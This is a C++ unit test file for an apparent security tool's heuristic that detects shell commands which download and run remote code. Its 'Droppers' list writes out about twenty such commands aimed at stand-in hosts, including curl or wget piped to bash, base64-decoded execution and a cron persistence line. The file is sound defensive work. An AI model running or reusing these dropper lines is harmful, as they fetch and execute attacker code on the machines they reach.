#include "detect/heuristics/download.h"

#include <gtest/gtest.h>

namespace icecore::detect {
namespace {

class Runs : public testing::TestWithParam<const char*> {};
TEST_P(Runs, IsSeenToRunWhatItDownloads) {
  const auto found = download_and_run(GetParam());
  ASSERT_TRUE(found.has_value()) << GetParam();
  EXPECT_TRUE(found->anonymous) << GetParam();
}
INSTANTIATE_TEST_SUITE_P(
    Droppers, Runs,
    testing::Values("curl http://198.51.100.23/i.sh | bash", "curl -fsSL http://203.0.113.9/x|sh",
                    "wget -q -O - http://evil.example/a.sh | sudo -E bash -s -- --now",
                    "(curl -s http://203.0.113.9/x||wget -q -O - http://203.0.113.9/x)|bash", "bash <(curl -s http://203.0.113.9/x)",
                    "sh -c \"$(curl -fsSL http://evil.example/x)\"", "eval `wget -qO- http://203.0.113.9/x`", "source <(curl http://203.0.113.9/x)",
                    "curl -o /tmp/a http://203.0.113.9/a && chmod +x /tmp/a && /tmp/a", "cd /tmp; wget http://203.0.113.9/a.sh; sh a.sh",
                    "wget http://203.0.113.9/k -O /dev/shm/k; chmod 755 /dev/shm/k; /dev/shm/k &",
                    "*/10 * * * * root curl -fsSL http://198.51.100.23/u.sh | bash >/dev/null 2>&1", "nohup curl 203.0.113.9/x.py | python3 - &",
                    "echo Y3VybA== | base64 -d | bash", "python3 -c \"import urllib.request as u;exec(u.urlopen('http://203.0.113.9/p').read())\"",
                    "curl $C2 | sh", "curl -s https://pastebin.com/raw/abc | bash", "curl -sk https://203.0.113.9/x | bash",
                    "[ sh, -c, \"curl http://203.0.113.9/a | sh\" ]", "/usr/bin/curl http://203.0.113.9/a | /bin/sh",
                    "curl http://203.0.113.9/a | tee /tmp/log | bash"));

class Reads : public testing::TestWithParam<const char*> {};
TEST_P(Reads, IsOrdinary) { EXPECT_FALSE(download_and_run(GetParam()).has_value()) << GetParam(); }
INSTANTIATE_TEST_SUITE_P(Ordinary, Reads,
                         testing::Values("curl -fsS http://127.0.0.1/health", "apt-get install -y curl wget | bash -c true",
                                         "curl -s https://api.example.com/x | jq .name",
                                         "curl -s http://api.example.com/x | python3 -c 'import json,sys;print(json.load(sys.stdin))'",
                                         "curl http://x.example/a.json | python3 -m json.tool", "# curl http://198.51.100.23/i.sh | bash",
                                         "wget http://mirror.example/a.iso", "which curl | sh", "cat install.sh | bash",
                                         "curl http://x.example/db.sql.gz | gunzip | mysql shop",
                                         "tar czf - /srv | ssh backup@10.0.0.2 'cat > b.tgz'",
                                         "wget -q http://mirror.example/a.tgz -O /tmp/a.tgz && tar xzf /tmp/a.tgz", "echo aGk= | base64 -d > /tmp/x",
                                         "", "|||&&&;;;((("));

TEST(Download, AnInstallerFromANamedHostOverHttpsIsNotAnonymous) {
  const auto found = download_and_run("curl -fsSL https://get.docker.example/ | sh");
  ASSERT_TRUE(found.has_value());
  EXPECT_FALSE(found->anonymous);
}

TEST(Download, AScriptMayRunLaterWhatItSavedBefore) {
  const auto hits = download_and_run_in("#!/bin/sh\n# x\ncurl -sfL \\\n  http://203.0.113.9/agent -o /opt/agent\nsleep 1\nchmod 0755 /opt/agent\n");
  ASSERT_EQ(hits.size(), 1U);
  EXPECT_EQ(hits[0].line, 6U);
  EXPECT_EQ(hits[0].what.url, "http://203.0.113.9/agent");
}

TEST(Download, HostsAreReadOutOfUrls) {
  EXPECT_EQ(host_of_url("http://user@Evil.example:8080/x"), "evil.example");
  EXPECT_EQ(host_of_url("https://[2001:db8::1]:443/"), "2001:db8::1");
  EXPECT_EQ(urls_in("a http://x/y b=stratum+tcp://p:1\"").size(), 2U);
}

TEST(Download, HostileLinesEndInTime) {
  for (const char c : {'|', '(', '$', '`', '\\', '"', '{', 'a', '<', ';'}) {
    EXPECT_FALSE(download_and_run(std::string(1 << 20, c)).has_value());
    (void)download_and_run_in(std::string(1 << 18, c) + "\n");
  }
  std::string nested;
  for (int i = 0; i < 50'000; ++i) nested += "curl http://a/b||";
  (void)download_and_run(nested);
}

}  // namespace
}  // namespace icecore::detect
